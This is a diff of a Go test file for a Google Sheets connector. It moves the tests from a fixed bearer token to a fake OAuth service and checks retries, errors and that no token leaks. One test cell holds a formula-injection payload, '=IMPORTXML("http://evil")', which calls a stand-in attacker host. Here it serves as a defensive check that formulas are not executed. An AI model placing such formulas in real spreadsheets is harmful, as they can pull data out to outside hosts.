@@ -11,39 +11,34 @@ import (
 	"time"
 
 	"github.com/countersign/countersign/internal/connector"
+	"github.com/countersign/countersign/internal/connector/gauth"
+	"github.com/countersign/countersign/internal/connector/gauth/gauthfake"
 	"github.com/countersign/countersign/internal/connector/gsheets"
 	"github.com/countersign/countersign/internal/connector/gsheets/sheetsfake"
 )
 
 const (
-	accessToken = "ya29.sheets-access-token-secret"
-	sheetID     = "1SheetExceptionQueue"
+	mailbox = "billing@acme.test"
+	sheetID = "1SheetExceptionQueue"
 )
 
-type bearer struct {
-	token string
-	next  http.RoundTripper
-}
-
-func (b bearer) RoundTrip(r *http.Request) (*http.Response, error) {
-	r = r.Clone(r.Context())
-	r.Header.Set("Authorization", "Bearer "+b.token)
-	return b.next.RoundTrip(r)
-}
-
-func setup(t *testing.T, token string, timeout time.Duration) (*sheetsfake.Fake, *gsheets.Client, string) {
+func setup(t *testing.T, subject string, timeout time.Duration) (*sheetsfake.Fake, *gsheets.Client, string, *http.Client) {
 	t.Helper()
-	fake := sheetsfake.New(accessToken)
+	auth, tokenURL := gauthfake.Start(t, []string{gauth.ScopeSheets}, mailbox)
+	hc, err := gauth.Client(gauth.Config{Connector: "gsheets", Credentials: auth.CredentialsJSON(tokenURL), Subject: subject,
+		Scopes: []string{gauth.ScopeSheets}, HTTPClient: connector.NewHTTPClient(timeout)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fake := sheetsfake.New(auth)
 	fake.AddSpreadsheet(sheetID, "Queue", "Review queue")
 	srv := httptest.NewServer(fake.Handler())
 	t.Cleanup(srv.Close)
-	hc := connector.NewHTTPClient(timeout)
-	hc.Transport = bearer{token: token, next: hc.Transport}
 	c, err := gsheets.New(gsheets.Config{BaseURL: srv.URL, HTTPClient: hc})
 	if err != nil {
 		t.Fatal(err)
 	}
-	return fake, c, srv.URL
+	return fake, c, srv.URL, hc
 }
 
 func TestAppendRowOnce(t *testing.T) {
@@ -51,7 +46,7 @@ func TestAppendRowOnce(t *testing.T) {
 	for _, rng := range []string{"Queue!A:D", "Queue", "'Review queue'!A:D", "Review queue"} {
 		t.Run(rng, func(t *testing.T) {
 			t.Parallel()
-			fake, c, _ := setup(t, accessToken, time.Second)
+			fake, c, _, _ := setup(t, mailbox, time.Second)
 			ctx := context.Background()
 			title := strings.Trim(strings.Split(rng, "!")[0], "'")
 			cells := []string{"call_abc", "=IMPORTXML(\"http://evil\")", "+1 555 0100"}
@@ -79,7 +74,7 @@ func TestAppendRowOnce(t *testing.T) {
 
 func TestAppendRowLostReplyThenRetry(t *testing.T) {
 	t.Parallel()
-	fake, c, _ := setup(t, accessToken, time.Second)
+	fake, c, _, _ := setup(t, mailbox, time.Second)
 	ctx := context.Background()
 	fake.LoseReply(1)
 	if _, err := c.AppendRow(ctx, sheetID, "Queue!A:C", "call_abc:review:3", []string{"x"}); err == nil || connector.IsPermanent(err) {
@@ -94,11 +89,10 @@ func TestAppendRowLostReplyThenRetry(t *testing.T) {
 // The fake must refuse USER_ENTERED, or a test could pass while formulas run.
 func TestFakeRejectsUserEntered(t *testing.T) {
 	t.Parallel()
-	fake, _, base := setup(t, accessToken, time.Second)
+	fake, _, base, hc := setup(t, mailbox, time.Second)
 	req, _ := http.NewRequest(http.MethodPost, base+"/v4/spreadsheets/"+sheetID+"/values/Queue!A:C:append?valueInputOption=USER_ENTERED",
 		strings.NewReader(`{"values":[["a","=1+1"]]}`))
-	req.Header.Set("Authorization", "Bearer "+accessToken)
-	resp, err := http.DefaultClient.Do(req)
+	resp, err := hc.Do(req)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -112,7 +106,7 @@ func TestAppendRowErrors(t *testing.T) {
 	t.Parallel()
 	tests := []struct {
 		name       string
-		token      string
+		subject    string
 		prepare    func(*sheetsfake.Fake)
 		sheetID    string
 		rng        string
@@ -127,16 +121,16 @@ func TestAppendRowErrors(t *testing.T) {
 		{name: "timeout", prepare: func(f *sheetsfake.Fake) { f.Delay(time.Second) }, code: "timeout"},
 		{name: "unknown sheet", rng: "Nope!A:C", permanent: true, status: 400, code: "INVALID_ARGUMENT"},
 		{name: "permission denied", prepare: func(f *sheetsfake.Fake) { f.FailNext(1, 403, 0) }, permanent: true, status: 403, code: "PERMISSION_DENIED"},
-		{name: "unauthenticated", token: "ya29.wrong-token-secret", permanent: true, status: 401, code: "UNAUTHENTICATED"},
+		{name: "grant refused", subject: "nobody@acme.test", permanent: true, code: "invalid_grant"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
-			token := accessToken
-			if tt.token != "" {
-				token = tt.token
+			subject := mailbox
+			if tt.subject != "" {
+				subject = tt.subject
 			}
-			fake, c, _ := setup(t, token, 200*time.Millisecond)
+			fake, c, _, _ := setup(t, subject, 200*time.Millisecond)
 			if tt.prepare != nil {
 				tt.prepare(fake)
 			}
@@ -155,7 +149,7 @@ func TestAppendRowErrors(t *testing.T) {
 			if ce.Permanent != tt.permanent || ce.Status != tt.status || (tt.code != "" && ce.Code != tt.code) || ce.RetryAfter != tt.retryAfter {
 				t.Fatalf("err = %+v", ce)
 			}
-			if strings.Contains(err.Error(), token) {
+			if strings.Contains(err.Error(), "ya29.") {
 				t.Fatalf("error leaks the token: %q", err)
 			}
 			if fake.Appends() != 0 {
